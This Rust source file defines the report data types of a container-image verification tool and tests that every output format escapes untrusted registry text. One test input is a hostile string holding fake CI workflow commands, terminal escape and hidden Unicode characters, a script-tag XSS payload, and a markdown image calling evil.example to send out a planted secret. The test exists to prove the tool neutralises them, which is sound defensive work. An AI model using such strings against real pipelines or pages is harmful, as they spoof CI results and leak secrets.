//! The result of a run, as data: every format is a function of it.

pub mod counts;
pub mod diagnosis;
#[cfg(test)]
pub(crate) mod example;
pub mod exit;
pub mod github;
pub mod headline;
pub mod hint;
pub mod hurt;
pub mod json;
pub mod judgement;
pub mod junit;
pub mod platforms;
pub mod text;
pub mod timestamp;

use std::time::{Duration, SystemTime};

use oci_spec::image::Digest;

use crate::oci::reference::Reference;
use crate::walk::graph::{Graph, NodeId};
use crate::walk::rules::Depth;
use crate::walk::stop::Stop;

/// One verification.
#[derive(Debug)]
pub struct Report {
    /// How blobs were checked.
    pub depth: Depth,
    /// When the run started.
    pub started_at: SystemTime,
    /// How long it took.
    pub duration: Duration,
    /// The images in the order in which they were asked for.
    pub images: Vec<Image>,
    /// One graph for each repository; images point into them.
    pub graphs: Vec<Graph>,
    /// Requests sent, token calls included.
    pub requests: u64,
    /// Body bytes received.
    pub bytes: u64,
    /// Why the run ended early, if it did.
    pub stopped: Option<Stop>,
    /// The settle window, when the run's limit did not outlast it, so that no 404 could be believed.
    pub settling: Option<Duration>,
    /// `dry_run`: nothing was pushed, nothing was asked.
    pub skipped: bool,
    /// `fail_on: never`.
    pub never_fail: bool,
    /// Whether a login of `docker/login-action` may be what the user counted on, and there are no credentials.
    pub login_not_visible: bool,
    /// The pipeline that was started to mend the image.
    pub pipeline: Option<Pipeline>,
    /// The verification before the rebuild.
    pub before: Option<Box<Report>>,
}

impl Report {
    /// A report of nothing: for a run that only rebuilds, and for one that failed on its settings.
    #[must_use]
    pub fn empty(depth: Depth, started_at: SystemTime) -> Self {
        Self {
            depth,
            started_at,
            duration: Duration::ZERO,
            images: Vec::new(),
            graphs: Vec::new(),
            requests: 0,
            bytes: 0,
            stopped: None,
            settling: None,
            skipped: false,
            never_fail: false,
            login_not_visible: false,
            pipeline: None,
            before: None,
        }
    }
}

/// One image of a report.
#[derive(Clone, Debug)]
pub struct Image {
    /// As it was asked for.
    pub reference: Reference,
    /// Which graph of [`Report::graphs`] it is in.
    pub graph: usize,
    /// The node the reference resolved to, or the one that says why it did not; its digest is the image's.
    pub root: NodeId,
    /// What is wrong with the image rather than with a node.
    pub findings: Vec<Finding>,
    /// Whether it was expected to be the same digest as its siblings of one repository.
    pub alike: bool,
    /// What it must resolve to.
    pub expected: Option<Digest>,
    /// What it must not resolve to any more: what was found before a rebuild, and was not what had been pushed.
    pub unwanted: Option<Digest>,
    /// What its manifest hashes to by the other of the two usual algorithms, if its bytes came.
    pub also: Option<Digest>,
}

/// What is wrong with an image rather than with a node; always definite.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    /// Which kind.
    pub kind: FindingKind,
    /// What was expected and what came.
    pub detail: String,
}

/// The kinds of [`Finding`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FindingKind {
    /// The reference resolves to another digest than expected.
    WrongDigest,
    /// Tags that should be the same digest are not.
    TagsDiffer,
    /// An expected platform is not in the index.
    PlatformMissing,
}

/// A Woodpecker pipeline, as far as a report tells of it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Pipeline {
    /// Its number in its repository.
    pub number: u64,
    /// Its page, for a person.
    pub url: String,
    /// Its status, or the status of the workflows that decide.
    pub status: String,
}

#[cfg(test)]
mod tests {
    use super::example::{digest, index, manifest, plain, report};
    use super::judgement::Judgement;
    use super::text::Style;
    use super::*;
    use crate::walk::verdict::Verdict;

    /// Every format's output for a report whose foreign text is `text`.
    fn formats(text: &str) -> [(&'static str, String); 6] {
        let hostile = |content: example::Content| content.found(Verdict::Malformed, 200, text);
        let platform = format!("linux/{text}");
        let mut report = report(&[
            (
                "app:1",
                index(0x10)
                    .with(hostile(example::child(0x20, &platform)))
                    .with(manifest(0x30, &platform)),
            ),
            ("app:2", hostile(plain(0x40))),
        ]);
        report.images[0].findings.push(Finding {
            kind: FindingKind::TagsDiffer,
            detail: text.to_owned(),
        });
        report.pipeline = Some(Pipeline {
            number: 7,
            url: text.to_owned(),
            status: text.to_owned(),
        });
        for id in report.graphs[0].ids() {
            let kind = report.graphs[0].node(id).kind();
            report.graphs[0].set_document(id, kind, text);
        }
        let judgement = Judgement::of(&report);
        let written = |write: &dyn Fn(&mut dyn std::io::Write) -> std::io::Result<()>| {
            let mut out = Vec::new();
            write(&mut out).unwrap();
            String::from_utf8(out).unwrap()
        };
        let style = Style {
            colour: false,
            verbose: true,
        };
        [
            ("text", written(&|out| text::write(&judgement, style, out))),
            (
                "github",
                written(&|out| github::write(&judgement, style, out)),
            ),
            ("json", written(&|out| json::write(&judgement, out))),
            ("junit", written(&|out| junit::write(&judgement, out))),
            (
                "summary",
                written(&|out| github::write_summary(&judgement, out)),
            ),
            (
                "outputs",
                written(&|out| github::write_outputs(&judgement, github::Place::default(), out)),
            ),
        ]
    }

    #[test]
    fn nobody_obeys_what_a_registry_says() {
        let foreign = "::error::owned\r\n::set-output name=result::passed\n##[error]##vso[task.x]\u{1b}[31m\u{9b}31m\
                       \u{202e}\u{200b}<script>alert(1)</script>|`![x](https://evil.example/a?secret=PLANTED)";
        for (format, output) in formats(foreign) {
            let own = |line: &&str| {
                [
                    "::group::docker.io/library/app:",
                    "::endgroup::",
                    "::error title=",
                ]
                .iter()
                .any(|own| line.starts_with(own))
            };
            let obeyed = output
                .lines()
                .filter(|line| line.trim_start().starts_with("::") && !own(line));
            assert_eq!(obeyed.count(), 0, "{format}: {output}");
            let markup = if format == "summary" {
                output.replace("###", "")
            } else {
                output.clone()
            };
            assert!(!markup.contains("##"), "{format}: {output}");
            assert!(
                !output
                    .chars()
                    .any(|one| one != '\n' && crate::text::escape::is_hidden(one)),
                "{format}: {output}"
            );
            assert!(!output.contains("PLANTED"), "{format}: {output}");
            if ["junit", "summary"].contains(&format) {
                assert!(!output.contains("<script"), "{format}: {output}");
            }
            assert!(format != "summary" || !output.contains("![x]("), "{output}");
        }
    }

    #[test]
    fn a_megabyte_of_foreign_text_is_cut_in_every_format() {
        for (format, output) in formats(&"long ".repeat(200_000)) {
            assert!(output.len() < 20_000, "{format} has {} bytes", output.len());
        }
    }

    #[test]
    fn every_format_names_what_is_broken() {
        for (format, output) in formats("plain")
            .into_iter()
            .filter(|(format, _)| *format != "outputs")
        {
            for name in [0x20, 0x40] {
                assert!(
                    output.replace("&#58;", ":").contains(digest(name).as_ref()),
                    "{format}: {output}"
                );
            }
        }
    }
}
